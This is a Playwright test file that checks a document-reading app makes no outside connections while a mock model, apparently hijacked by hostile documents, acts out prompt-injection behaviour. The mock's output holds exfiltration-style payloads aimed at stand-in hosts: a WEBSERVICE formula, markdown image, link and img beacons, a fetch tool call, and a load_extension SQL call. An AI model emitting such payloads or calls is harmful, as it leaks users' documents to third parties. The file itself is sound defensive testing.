import { readFile } from "node:fs/promises"
import { expect, test, type Page } from "@playwright/test"
import { createMemoryFile } from "../../src/box/parsers/document/document-file.ts"
import { ZipArchive } from "../../src/box/parsers/zip/zip-archive.ts"
import {
  startModelServer,
  type ModelRequest,
  type Round,
} from "../../src/box/testing/model-servers/model-server.ts"
import { createClient } from "../../src/shared/client/http-client.ts"
import { startBox } from "../running-box.ts"
import { hostileAnswer } from "./hostile-answer.ts"
import { hostileDocuments } from "./hostile-documents.ts"
import { destinations, viewAll, openBrowser, signIn } from "./look.ts"
import { startSinks } from "./sinks.ts"

const at = (name: string) => `https://${name}.reading.example/x`
const hostileCells = [
  `=WEBSERVICE("${at("formula")}")`,
  `![](${at("picture")}) [x](${at("link")}) <img src="${at("html")}">`,
]
const fetching: NonNullable<Round["calls"]> = [{ name: "fetch", args: { url: at("call") } }]
const lookupCalls: NonNullable<Round["calls"]> = [
  { name: "searchFolder", args: { query: "letter" } },
  { name: "listFiles", args: {} },
  { name: "readFile", args: { fileId: "1" } },
  { name: "queryTable", args: { sql: "SHOW TABLES" } },
  { name: "queryTable", args: { sql: "SELECT * FROM sums" } },
  { name: "queryTable", args: { sql: `SELECT load_extension('${at("extension")}')` } },
]

/** A model hijacked by the documents it reads: it makes forbidden calls, and writes content that could load when it is shown. */
function turnedModel({ messages }: ModelRequest): Round {
  const lastMessage = messages.at(-1)
  if (lastMessage?.content?.startsWith("<part>") === true)
    return { text: `${hostileCells.join(" | ")} [1]`, calls: fetching }
  if (lastMessage?.content?.startsWith("<notes>") === true) return { text: hostileAnswer, calls: fetching }
  if (
    messages.some(({ content }) => content?.endsWith("Look them up.") === true) &&
    lastMessage?.role === "user"
  )
    return { calls: lookupCalls }
  return { text: hostileAnswer }
}

/** Content in parts of a saved office file that would load or calculate something on opening. Plain links are ignored. */
async function loadedBy(bytes: Buffer, parts: readonly string[]): Promise<string[]> {
  const archive = await ZipArchive.open(createMemoryFile(bytes))
  const texts = await Promise.all(
    parts.map(async (part) => {
      let text = ""
      for await (const chunk of archive.read(part)) text += chunk.toString()
      return text
    }),
  )
  const loading = /<f>|fldSimple|instrText|<Relationship (?![^>]*\/hyperlink")[^>]*External[^>]*>/g
  return texts.flatMap((text) => text.match(loading) ?? [])
}

async function saved(page: Page, menu: string, item: string): Promise<Buffer> {
  await page.getByRole("button", { name: menu }).first().click()
  const coming = page.waitForEvent("download")
  await page.getByRole("menuitem", { name: item }).click()
  return readFile(await (await coming).path())
}

// Local-only is off: only the model server is called, although everything is allowed.
for (const [where, host] of [
  ["on this computer", "127.0.0.1"],
  ["elsewhere", "203.0.113.7"],
] as const) {
  // Catches a lookup or packet while documents are read whole, made into tables, queried with tools and SQL, shown and exported, and a call
  // that a model makes while it reads.
  test(`reading connects only to a model ${where}`, async () => {
    await using sinks = await startSinks()
    await using model = await startModelServer(turnedModel, { host })
    await using box = await startBox("--model", model.baseUrl)
    const client = createClient({ baseUrl: box.url, headers: { "x-api-key": box.key } })
    const { vector } = await client.folders.create({ body: { name: "Hostile" } })
    const params = { id: vector.id }
    const documents = hostileDocuments("document.example")
    for (const [fileName, bytes] of Object.entries(documents))
      await client.files.upload({ params, file: new Blob([new Uint8Array(bytes)]), fileName })
    await expect.poll(async () => (await client.folders.read({ params })).vector.pendingCount).toBe(0)

    const ask = async (id: string, question: string, more: object) => {
      const messages = [{ role: "user" as const, content: question }]
      const types: string[] = []
      const body = { id, messages, boxAddress: box.url, vector: [vector.id], ...more }
      for await (const event of client.chat.send({ body })) types.push(event.type)
      return types
    }
    const whole = { reading: "whole" }
    expect(await ask("whole", "Summarise everything.", whole)).toEqual(
      expect.not.arrayContaining(["tool-call", "error"]),
    )
    const table = { columns: ["What", "Where"] }
    expect(await ask("table", "What is where?", { ...whole, table })).toEqual(
      expect.not.arrayContaining(["tool-call", "error"]),
    )
    const looked = await ask("tools", "Look them up.", { reading: "passages" })
    expect(looked.filter((type) => type === "tool-result")).toHaveLength(lookupCalls.length)

    const { tables } = await client.tables.list({ params })
    expect(tables.map(({ fileName }) => fileName).sort()).toEqual(["sums.csv", "sums.ods", "sums.xlsx"])
    for (const { name } of tables)
      await client.tables.query({ params, body: { sql: `SELECT * FROM ${name}` } })

    await using browser = await openBrowser()
    const page = await browser.newPage()
    await signIn(page, box)
    for (const chat of ["whole", "table", "tools"]) {
      await page.goto(`${box.url}/#/inter/chat/${chat}`)
      await expect(page.getByLabel("Answer", { exact: true })).toBeVisible()
      await viewAll(page)
      expect(await page.evaluate(destinations)).toEqual([])
    }
    await page.goto(`${box.url}/#/inter/chat/table`)
    const workbook = await saved(page, "Export table", "Save table for Excel")
    expect(
      await loadedBy(workbook, ["xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"]),
    ).toEqual([])
    await page.getByRole("button", { name: "Save to folder" }).click()
    const dialog = page.getByRole("dialog", { name: "Save to folder" })
    await dialog.getByLabel("Name", { exact: true }).fill("Taken along")
    await dialog.getByRole("button", { name: "Save" }).click()
    await expect(page.getByText("Taken along.docx saved in Hostile")).toBeVisible()
    const { files } = await client.files.list({ params })
    const word = files.find(({ name }) => name === "Taken along.docx")
    const bytes = await readFile(`${box.dataDir}/folders/${vector.id}/${word?.name}`)
    expect(await loadedBy(bytes, ["word/document.xml", "word/_rels/document.xml.rels"])).toEqual([])

    for (const tab of ["Tables", "Overview"]) {
      await page.goto(`${box.url}/#/dc/vector/${vector.id}`)
      await page.getByRole("tab", { name: tab }).click()
      await viewAll(page)
    }
    await page.goto(`${box.url}/#/dc/vector/${vector.id}`)
    await page.getByRole("tab", { name: "Tables" }).click()
    await page.getByRole("list", { name: "Tables in this folder" }).getByRole("button").first().click()
    await expect(page.getByRole("grid", { name: "Rows" })).toBeVisible()
    await viewAll(page)
    expect(await page.evaluate(destinations)).toEqual([])

    expect([...sinks.heard]).toEqual([])
    expect(sinks.left()).toBe(0)
    const { egress } = await client.privacy.list()
    const called = host === "127.0.0.1" ? [] : [new URL(model.baseUrl).host]
    expect([...new Set(egress.map((each) => each.host))]).toEqual(called)
  })
}
